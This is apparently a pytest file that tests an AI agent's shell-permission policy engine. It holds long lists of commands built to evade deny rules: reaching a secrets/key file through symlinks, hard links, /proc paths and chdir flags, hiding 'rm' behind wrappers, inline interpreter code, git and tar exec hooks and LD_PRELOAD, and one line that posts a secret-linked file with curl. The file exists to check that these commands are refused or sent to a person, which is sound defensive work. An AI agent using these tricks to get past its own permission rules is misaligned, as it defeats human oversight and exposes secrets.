"""Ways around a rule that only a look at files, options or inline code shows, and how often ordinary commands ask.

What can't be read from a command waits for a person; it doesn't pass.
"""

import os
import time
from pathlib import Path
from typing import Any

import pytest

from delegate.policy.approvals import files_of
from delegate.policy.decide import Action, decide
from delegate.policy.rules import Policy
from delegate.types.ports import Effect
from tests.support.pages import DOCS

SHELL: frozenset[Effect] = frozenset({"files", "commands"})
FILES: frozenset[Effect] = frozenset({"files"})
NO_RM, NO_KEY, NO_SECRETS, NO_CAT = r"^rm\b", r"secrets/key", r"secrets/", r"^cat secrets/"

DENIED = [
    # where it runs
    *((NO_KEY, command) for command in (
        "env -C secrets cat key", "env --chdir=secrets cat key", "env --chdir secrets cat key",
        "git -C secrets show HEAD:key key",
        "make -C secrets key", "make --directory=secrets key", "tar -C secrets -cf x.tar key",
        "tar -Csecrets -cf x.tar key",
        "cd secrets && cat key", "pushd secrets; cat key", "cd pub && cat key", "(cd secrets; cat key)",
        "sudo -D secrets cat key",
        "git -C sub -C ../secrets add key", "unshare --wd=secrets cat key",
        "systemd-run --working-directory=secrets cat key",
        "find secrets -name key -exec cat {} +", "cat /proc/self/cwd/secrets/key", "cat /proc/self/cwd/pub/key",
        "cat //proc/./self/cwd/secrets/key", "cat /proc/thread-self/cwd/secrets/key",
        "cat /proc/self/task/../cwd/secrets/key",
        "cat here/secrets/key", "cd secrets && cat /proc/self/cwd/key",
    )),
    # what the line itself makes known under another name
    *((NO_KEY, command) for command in (
        "ln -s secrets nn; cat nn/key", "ln -sfn secrets nn && cat ./nn/key", "ln -s ./secrets/ nn; cd nn; cat key",
        "ln -s $PWD/secrets nn; cat nn/key", "ln -s pub a; ln -s a b; cat b/key", "cp -r secrets nn; cat nn/key",
        "mv secrets nn && cat nn/key", "ln -s secrets sub; cat sub/secrets/key", "ln -s secrets nn; sh -c 'cat nn/key'",
        "sudo ln -s secrets nn; cat nn/key", "busybox ln -s secrets nn; cat nn/key",
        "sh -c 'ln -s secrets nn'; cat nn/key",
        "ln -s secrets nn; echo $(cat nn/key)", "ln -s secrets nn; echo `cat nn/key`",
        "ln -s ../secrets; cat ../secrets/key",
        "ln -s secrets nn; cat < nn/key", "rsync -a secrets/ nn; cat nn/key",
    )),
    (NO_RM, "ln -s /bin/rm q; ./q x"),
    (NO_RM, "cp /bin/rm q && ./q x"),
    # a folder means what is in it
    *((NO_SECRETS, command) for command in (
        "tar cf - pub", "tar cf - secrets", "cp -r pub /tmp/q", "git -C secrets show", "make -C secrets", "ls secrets",
        "grep -r x pub", "ln -s secrets nn",
    )),
    *((NO_CAT, command) for command in ("sudo cat pub/key", "sh -c 'cat pub/key'", "timeout 5 env cat ./secrets/key")),
    # hard links
    *((NO_KEY, command) for command in ("cat hard", "cat sub/hard2", "cp hard x", "cat < hard", "dd if=hard",
    "curl -d @hard h",
    "sudo cat hard")),
]  # fmt: skip
"""A pattern that is denied, and a command that it is about."""

ASKED = [
    # programs that nobody listed
    *((NO_RM, command) for command in (
        "systemd-run rm x", "systemd-run --user --wait rm x", "setpriv --reuid 0 rm x", "nsenter -t 1 rm x",
        "ifne rm x",
        "caffeinate rm x", "torsocks rm x", "start-stop-daemon --exec rm", "my-own-wrapper --fast rm x",
        "./run.sh rm x",
        "sh run.sh rm x", "setpriv sh -c 'rm x'", "nsenter -t 1 sudo rm x", "ifne xargs rm", "entr rm x",
        "docker exec web rm x",
        "npm exec rm x", "tar xf a.tar --to-command='rm x'", "rsync -e 'rm x' a b", "zip -T -TT 'rm x' a.zip b",
        "git -c core.pager='rm x' log", "git rebase --exec 'rm x' main", "git bisect run rm x",
        "git submodule foreach 'rm x'",
        "systemd-run /bin/rm x", "setarch -R rm x", "xvfb-run -a rm x", "wget --use-askpass=rm u",
        "hash -p /bin/rm ls; ls",
        "tar --checkpoint=1 --checkpoint-action=exec='rm x' -cf a b", "git config alias.q '!rm x'; git q",
        "PAGER='rm x' man ls", "man -P 'rm x' ls", "make CC='rm x' a.o", "cmake -E env rm x", "conda run rm x",
        "go test -exec 'rm x'", "GIT_SSH_COMMAND='rm x' git fetch", "EDITOR=rm git commit", "somewhere -- env rm x",
        "systemd-run " + "-p a " * 150 + "rm x",
    )),
    # code
    *((NO_RM, command) for command in (
        "python -c 'import os; os.system(\"r\" + \"m x\")'", "python3.11 -Ic 'x'", "python3 -Bc x",
        "python - <<'E'\nx\nE", "python3 <<< x",
        "echo x | python3", "python -W ignore -c x", "perl -e 'unlink 1'", "perl -lane 'x' f",
        "perl -pi -e 's/a/`b`/e' f",
        "ruby -e 'x'", "ruby -Ilib -e x", "node -e x", "node --eval=x", "node -pe x", "deno eval x", "bun -e x",
        "php -r x", "lua -e x",
        "Rscript -e x", "julia -E x", "awk 'BEGIN{system(\"rm x\")}'", "awk '{print | \"sh\"}' f",
        "awk '\"rm x\" | getline' f",
        "awk '{ print > \"/bin/x\" }' f", "awk 'BEGIN{ARGV[1]=\"k\"}1' f", "sed '1e rm x' f", "sed 's/a/b/e' f",
        "sed -n 'w secrets' f", "sed -e p -e 'e rm' f", "tclsh <<< 'exec rm x'", "vim -c ':!rm x'", "vim +':!rm x' f",
        "emacs --eval x",
        "gdb -ex 'shell rm x'", "expect -c x", "sqlite3 a.db '.shell rm x'", "psql -c '\\! rm x'",
        "make --eval 'a:;rm x'",
        "at now <<< 'rm x'", "crontab - <<< '* * * * * rm x'", "less '+!rm x' f", "sqlite3 a.db <<< '.shell rm x'",
        "psql <<< '\\! rm x'", "make -f /dev/stdin <<< 'a:;rm x'", "pythonw -c x", "python3.12d -c x",
        "BASH_ENV=x.sh bash -c ls",
        "PERL5OPT=-Mx perl y.pl", "NODE_OPTIONS='-r ./x' node y.js", "LD_PRELOAD=./x.so ls",
        "systemd-run python -c x", "env python -c x", "sudo perl -e x", "find . -exec python -c x {} +",
        "python -m timeit x",
        "m4 <<< 'syscmd(rm x)'", "osascript -e x", "pwsh -Command x", "/usr/bin/python3 -c x", "./py -c x",
        "echo x | sudo node",
    )),
    (r"^git push\b", "python -c x"),
    (NO_KEY, "python3 -c 'open(\"secr\" + \"ets/key\")'"),
    (NO_KEY, "perl -ne print ke*"),
    # what the line writes and runs
    *((NO_RM, command) for command in (
        "printf 'rm x' > s.sh; sh s.sh", "echo 'rm x' > s && chmod +x s && ./s",
        "cat > s.sh <<'E'\nrm x\nE\nbash ./s.sh",
        "echo 'rm x' | tee s.sh; . ./s.sh", "echo x > a.py; python a.py", "echo 'rm x' >> sub/s.sh; cd sub; sh s.sh",
        "dd of=s.sh <<< 'rm x'; sh s.sh", "echo 'all:;rm x' > Makefile; make",
    )),
    # a hard link whose other name is somewhere else
    (r"/etc/", "cat outside"),
]  # fmt: skip
"""A pattern that is denied, and a command of which nobody can tell whether it is about it."""

ORDINARY = [
    "git status", "git diff --stat HEAD~1", "git log --oneline -20",
    "git add -A && git commit -m 'Remove the old cache, rm -rf it'",
    "git checkout -b feature/x", "git -C sub log -3", "git push origin feature/x",
    "git stash && git pull --rebase && git stash pop",
    "ls -la src", "cat src/app.py | head -50", "grep -rn 'def main' src tests", "rg -n TODO src",
    "find . -name '*.py' -not -path './.venv/*'",
    "wc -l src/*.py", "sed -i 's/foo/bar/g' src/app.py", "sed -n '10,40p' src/app.py",
    "awk -F: '{print $1, $3}' data.txt",
    "sort data.txt | uniq -c | sort -rn | head", "pytest -q tests", "python -m pytest -x -k 'not slow' tests",
    "PYTHONPATH=. python src/app.py --help",
    "python -m venv .venv && . .venv/bin/activate", "pip install -e '.[dev]'",
    "ruff check --fix src && ruff format src", "mypy src",
    "make test", "make -C sub all", "make -j4 build CC=clang", "npm ci && npm test", "npm run lint -- --fix",
    "npx prettier --check src",
    "node build.js", "cargo build --release", "cargo test --workspace", "go test ./...", "docker compose up -d",
    "docker run --rm -v $PWD:/w img make",
    "curl -s https://example.com/health | jq .status", "mkdir -p out && cp -r src out/",
    "cd sub && make && cd .. && ls", "tar czf dist.tar.gz src",
    "timeout 60 pytest -q 2>&1 | tail -20", "for f in src/*.py; do echo $f; done", "chmod +x run.sh && ./run.sh build",
    "gcc -O2 -c a.c -o a.o && ./a.out",
]  # fmt: skip
"""What developers type."""
TYPICAL: dict[str, Any] = {
    "rules": [
        {"decision": "deny", "reason": "keep secrets", "arguments": {"*": r"(^|[ /=])secrets(/|$)"}},
        {"decision": "deny", "reason": "people change the CI", "arguments": {"*": r"(^|[ />])\.github/"}},
        {"decision": "deny", "reason": "no deleting", "tools": ["run_shell"], "arguments": {"command": r"^rm\b"}},
        {
            "decision": "ask",
            "reason": "people publish",
            "tools": ["run_shell"],
            "arguments": {"command": r"^git push\b"},
        },
    ]
}
CODE = ["python -c 'import sys; print(sys.version)'", "node -e 'console.log(1)'", "perl -ne 'print if /x/' data.txt"]


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> str:
    root = tmp_path_factory.mktemp("w")
    for name in ("secrets/key", "sub/Makefile", "src/app.py", "src/util.py", "tests/test_app.py", "data.txt",
    "build.js",
                 "run.sh", "Makefile", "package.json", ".github/ci.yml", "keys.txt"):  # fmt: skip
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("x")
    links = {"pub": "secrets", "here": "/proc/self/cwd", "py": "/usr/bin/python3"}
    for name, target in links.items():
        (root / name).symlink_to(target)
    os.link(root / "secrets/key", root / "hard")
    os.link(root / "secrets/key", root / "sub/hard2")
    elsewhere = tmp_path_factory.mktemp("elsewhere") / "file"
    elsewhere.write_text("x")
    os.link(elsewhere, root / "outside")
    return os.path.realpath(root)


def permission(root: str, command: str, policy: dict[str, Any]) -> str:
    action = Action("run_shell", {"command": command}, effects=SHELL, workspace=root)
    return decide(action, Policy.model_validate(policy)).permission


def denying(pattern: str, argument: str = "command") -> dict[str, Any]:
    return {"rules": [{"decision": "deny", "reason": "r", "arguments": {argument: pattern}}]}


def test_what_a_command_is_about_is_found_by_where_it_runs_and_what_names_lead_to(root: str) -> None:
    assert [one for one in DENIED if permission(root, one[1], denying(one[0])) != "deny"] == []


def test_what_cannot_be_read_from_a_command_waits_for_a_person(root: str) -> None:
    assert [one for one in ASKED if permission(root, one[1], denying(one[0])) != "ask"] == []


@pytest.mark.parametrize(
    "path", ["hard", "sub/hard2", "sub/../hard", "/proc/self/cwd/secrets/key", "here/pub/key", "{root}/hard"]
)
def test_a_path_is_denied_by_all_names_of_the_file(path: str, root: str) -> None:
    policy = Policy.model_validate(denying(r"^secrets/", "path"))
    action = Action("read_out", {"path": path.replace("{root}", root)}, effects=FILES, workspace=root)
    assert decide(action, policy).permission == "deny"


def test_a_name_that_a_file_gets_later_counts_from_then_on(tmp_path: Path) -> None:
    root = Path(os.path.realpath(tmp_path))
    (root / "x").mkdir()
    (root / "x/key").write_text("1")
    os.link(root / "x/key", root / "a")
    found = [permission(str(root), "cat a", denying(NO_KEY))]
    (root / "x").rename(root / "secrets")
    found.append(permission(str(root), "cat a", denying(NO_KEY)))
    (root / "b").write_text("1")
    found.append(permission(str(root), "cat b", denying(r"sub/b")))
    (root / "sub").mkdir()
    os.link(root / "b", root / "sub/b")
    found.append(permission(str(root), "cat b", denying(r"sub/b")))
    assert found == ["allow", "deny", "allow", "deny"]


def test_a_file_with_a_name_that_cannot_be_found_is_asked_about_only_where_it_could_matter(root: str) -> None:
    action = Action("read_out", {"path": "outside"}, effects=FILES, workspace=root)
    found = [decide(action, Policy.model_validate(denying(one, "path"))).permission for one in (r"etc/", r"^secrets/")]
    assert found == ["ask", "allow"]


def test_of_ordinary_commands_none_is_denied_and_those_that_ask_say_what_is_asked_about(root: str) -> None:
    assert len(ORDINARY) >= 40
    found = {command: permission(root, command, TYPICAL) for command in ORDINARY}
    assert [command for command, decision in found.items() if decision == "deny"] == []
    assert [command for command, decision in found.items() if decision == "ask"] == ["git push origin feature/x"]
    assert [permission(root, command, TYPICAL) for command in CODE] == ["ask"] * len(CODE)
    assert [permission(root, command, {}) for command in CODE] == ["allow"] * len(CODE)
    page = (DOCS / "approvals.md").read_text(encoding="utf-8").replace("\n", " ")
    assert f"Of {len(DENIED) + len(ASKED)} hidden ways around rules" in page
    assert f"none gets through: {len(DENIED)} are refused" in page
    assert f"Of {len(ORDINARY)} commands that developers type, the rules of a usual project ask about 1" in page


def test_an_exception_lets_inline_code_pass(root: str) -> None:
    rule = {"decision": "ask", "reason": "r", "unless": {"command": r"python -c .*"}}
    assert permission(root, "python -c 'print(1)'", {"rules": [rule]}) == "allow"


@pytest.mark.slow
@pytest.mark.parametrize(
    "command",
    ["x " + "a " * 1_900, "x " + "sudo " * 900 + "rm y", "x " + "sh -c " * 600, "x " + "'a b' " * 190, "x '" + "a b "
    * 40_000 + "'",
     "ln -s a b; " * 500, "git " + "-c a='rm x' " * 600, "env " + "-C sub " * 900 + "ls", "sed '" + "p;" * 50_000 +
     "' f",
     "sed 's/" + "\\\\/" * 50_000 + "' f", "awk '" + "print " * 20_000 + "' f", "A='a b' " * 400 + "ls",
     "cat hard; " * 900, "cat" + " hard outside" * 900],
)  # fmt: skip
def test_a_hostile_command_is_decided_on_soon(command: str, root: str) -> None:
    started = time.process_time()
    permission(root, command, denying(NO_RM))
    assert time.process_time() - started < 2


# ------------------------------------------------------------------------------------------ what an approval covers


@pytest.mark.parametrize(
    ("command", "changed"),
    [
        ("cat s.sh | sh", "s.sh"),
        ("cat s.sh | tr a b | sh", "s.sh"),
        ("sh < s.sh", "s.sh"),
        ("bash -s < s.sh", "s.sh"),
        ("cat s.sh | sudo sh", "s.sh"),
        ("cat a.py | python3", "a.py"),
        ("xargs sh < list", "list"),
        ("base64 -d s.b64 | sh", "s.b64"),
        ("sh s.sh", "lib/one.sh"),
        ("sh s.sh", "lib/two"),
        ("sh s.sh", "lib/three.sh"),
        ("cd sub && sh ../s.sh", "lib/one.sh"),
        ("cat s.sh | sh", "lib/one.sh"),
        ("make all", "tool.sh"),
        ("npm test", "build.js"),
        ("python a.py", "b.py"),
        ("python a.py", "pkg/c.py"),
        ("python a.py", "pkg/__init__.py"),
        ("node build.js", "part.js"),
    ],
)
def test_an_approval_is_bound_to_what_is_run_by_what_it_runs(command: str, changed: str, tmp_path: Path) -> None:
    texts = {
        "s.sh": ". ./lib/one.sh\nif true; then source \"$(dirname \"$0\")/lib/two\"; fi\n", "lib/one.sh":
        "sh lib/three.sh", "lib/two": "x",
        "lib/three.sh": "x", "a.py": "import b\nfrom pkg import c", "b.py": "x", "pkg/c.py": "x", "pkg/__init__.py":
        "x",
        "list": "s.sh", "s.b64": "eA==", "Makefile": "all:\n\t./tool.sh", "tool.sh": "x",
        "package.json": '{"scripts": {"test": "node build.js"}}',
        "build.js": "require('./part')", "part.js": "x", "sub/x": "x", "unrelated.sh": "x",
    }  # fmt: skip
    for name, text in texts.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    root = os.path.realpath(tmp_path)
    action = Action("run_shell", {"command": command}, effects=SHELL, workspace=root)
    before = files_of(action)
    assert changed in before
    assert "unrelated.sh" not in before
    (tmp_path / changed).write_text("other")
    assert files_of(action) != before


def test_scripts_that_name_each_other_are_looked_at_once_and_no_more_than_a_bounded_number(tmp_path: Path) -> None:
    for n in range(400):
        (tmp_path / f"{n}.sh").write_text("\n".join(f"sh {other}.sh" for other in range(400)))
    action = Action("run_shell", {"command": "sh 0.sh"}, effects=SHELL, workspace=os.path.realpath(tmp_path))
    started = time.process_time()
    assert 100 < len(files_of(action)) <= 500
    assert time.process_time() - started < 3
